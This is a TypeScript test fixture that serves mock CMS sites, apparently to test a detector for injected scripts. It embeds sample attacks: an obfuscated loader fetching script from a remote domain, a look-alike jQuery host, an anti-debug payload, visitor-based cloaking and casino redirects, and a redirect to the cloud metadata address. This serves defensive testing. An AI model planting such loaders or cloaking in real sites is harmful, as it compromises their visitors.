import http from 'node:http';
import type { AddressInfo } from 'node:net';

/** Local sites that behave like injected (and clean) CMS sites, for the injected-code check. */
export type SiteName =
  | 'clean'
  | 'mobileOnly'
  | 'spiderOnly'
  | 'baiduRefererOnly'
  | 'playerConfig'
  | 'redirectChain'
  | 'mentionsIndicator'
  | 'toMetadata'
  | 'cloakedScript'
  | 'nestedFrame'
  | 'mobileMetaRefresh'
  | 'spiderRefreshHeader'
  | 'manyScripts';

const page = (body: string, title = '影视首页') =>
  `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>
<script src="/static/js/jquery.js"></script><script src="/static/js/home.js"></script>
<script>var maccms={"path":"","mid":"1","url":"example.com"};</script></head>
<body><h1>最新电影</h1><ul><li><a href="/vod/1.html">流浪地球</a></li></ul>${body}</body></html>`;

const LOADER = `<script>(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly91bmlvbi5tYWNvbXMubGEvanF1ZXJ5LmpzP3Y9Mw==');document.head.appendChild(s);})();</script>`;
const CLEAN_CONFIG = `var MacPlayerConfig={};MacPlayerConfig.player_list={"dplayer":{"show":"DPlayer"}};MacPlayerConfig.buffer="";`;
const BAD_CONFIG = `${CLEAN_CONFIG}\nsetInterval(function(){debugger},100);eval('window')['\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74'];`;

const isSpider = (ua: string) => /spider|bot|sogou/i.test(ua);
const isMobile = (ua: string) => /iphone|android|mobile/i.test(ua) && !isSpider(ua);

/** A loader that builds a script element whose address sits in a variable built from pieces. */
const NESTED_LOADER = `(function(){var s=document.createElement('script');s.src="https://code.jquecy.com/jquery.min.js";document.body.appendChild(s);})();`;

function respond(site: SiteName, req: http.IncomingMessage, res: http.ServerResponse) {
  const ua = req.headers['user-agent'] ?? '';
  const referer = req.headers.referer ?? '';
  const path = req.url ?? '/';
  const html = (body: string) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
  if (path === '/static/js/playerconfig.js') {
    return res.end(site === 'playerConfig' ? BAD_CONFIG : CLEAN_CONFIG);
  }
  if (path === '/static/js/jquery.js')
    return res.end('/*! jQuery v3.6.0 */ (function(){ window.jQuery = {}; })();');
  if (path === '/static/js/home.js') return res.end('var MAC={Url:"",Title:"首页"};');
  if (path === '/static/js/player.js') return res.end('MacPlayer = { Init: function(){} };');
  if (site === 'cloakedScript' && path === '/js/stats.js') {
    // The site's own script, served with a payload to phones only: the page itself is clean.
    return res.end(isMobile(ua) ? `var _s=1;\n${BAD_CONFIG}` : 'var _s=1;');
  }
  if (site === 'nestedFrame' && path === '/ad.html') return html('<script src="/js/ad.js"></script>');
  if (site === 'nestedFrame' && path === '/js/ad.js') return res.end(NESTED_LOADER);
  if (site === 'manyScripts' && path.startsWith('/js/')) return res.end(`var n=${JSON.stringify(path)};`);
  if (path !== '/' && site !== 'redirectChain') return res.writeHead(404).end('not found');
  switch (site) {
    case 'mobileOnly':
      return html(page(isMobile(ua) ? LOADER : ''));
    case 'spiderOnly':
      return html(page(isSpider(ua) ? '<script src="https://union.macoms.la/tj.js"></script>' : ''));
    case 'baiduRefererOnly':
      return html(page(referer.includes('baidu.com') && !isSpider(ua) ? LOADER : ''));
    case 'redirectChain':
      if (path === '/') return res.writeHead(301, { location: '/step1' }).end();
      if (path === '/step1') return res.writeHead(302, { location: '/landing' }).end();
      if (path === '/landing') return html(page('<script src="/static/js/jquery.min-3.6.8.js"></script>'));
      return res.writeHead(404).end();
    case 'mentionsIndicator':
      // Mentions in text, a link, a comment and a script string: none of them loads anything.
      return html(
        page(
          `<p>安全提示：不要加载 union.macoms.la、code.jquecy.com 的脚本，也不要引入 jquery.min-3.6.8.js 这类假冒的库。</p>
<a href="https://union.macoms.la/">union.macoms.la</a><!-- blocked: https://zz.bdustatic.com/tj.js -->
<script>var blocked = ["https://cdnjs.clondflare.com/ajax/libs/jquery.js", "ywquyq.com"];</script>`,
          '网站被 hacked 了怎么办',
        ),
      );
    case 'cloakedScript':
      return html(page('<script src="/js/stats.js"></script>'));
    case 'nestedFrame':
      return html(page('<iframe src="/ad.html" width="0" height="0"></iframe>'));
    case 'mobileMetaRefresh':
      return html(
        page(isMobile(ua) ? '<meta http-equiv="refresh" content="0;url=https://casino.example.net/m/">' : ''),
      );
    case 'spiderRefreshHeader':
      if (isSpider(ua)) res.setHeader('refresh', '0; url=https://casino.example.net/spider/');
      return html(page(''));
    case 'manyScripts':
      return html(
        page(Array.from({ length: 80 }, (_, i) => `<script src="/js/s${i}.js"></script>`).join('')),
      );
    case 'toMetadata':
      return res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
    default:
      return html(page(''));
  }
}

/** What a site's server saw: every request path, and the most it was answering at once. */
export type Traffic = { paths: string[]; maxInFlight: number };

export type Sites = {
  url: (name: SiteName) => string;
  traffic: (name: SiteName) => Traffic;
  close: () => Promise<void>;
};

/** Starts one 127.0.0.1 server per site (each needs its own origin for the CMS's static files). */
export async function startSites(): Promise<Sites> {
  const names: SiteName[] = [
    'clean',
    'mobileOnly',
    'spiderOnly',
    'baiduRefererOnly',
    'playerConfig',
    'redirectChain',
    'mentionsIndicator',
    'toMetadata',
    'cloakedScript',
    'nestedFrame',
    'mobileMetaRefresh',
    'spiderRefreshHeader',
    'manyScripts',
  ];
  const servers = new Map<SiteName, http.Server>();
  const traffic = new Map<SiteName, Traffic>();
  for (const name of names) {
    const seen: Traffic = { paths: [], maxInFlight: 0 };
    traffic.set(name, seen);
    let inFlight = 0;
    const server = http.createServer((req, res) => {
      seen.paths.push(req.url ?? '/');
      seen.maxInFlight = Math.max(seen.maxInFlight, ++inFlight);
      res.on('close', () => inFlight--);
      // A little latency, so overlapping requests would overlap here too.
      setTimeout(() => respond(name, req, res), name === 'manyScripts' ? 15 : 0);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    servers.set(name, server);
  }
  return {
    url: (name) => `http://127.0.0.1:${(servers.get(name)!.address() as AddressInfo).port}/`,
    traffic: (name) => traffic.get(name)!,
    close: async () => {
      await Promise.all([...servers.values()].map((s) => new Promise((r) => s.close(r))));
    },
  };
}
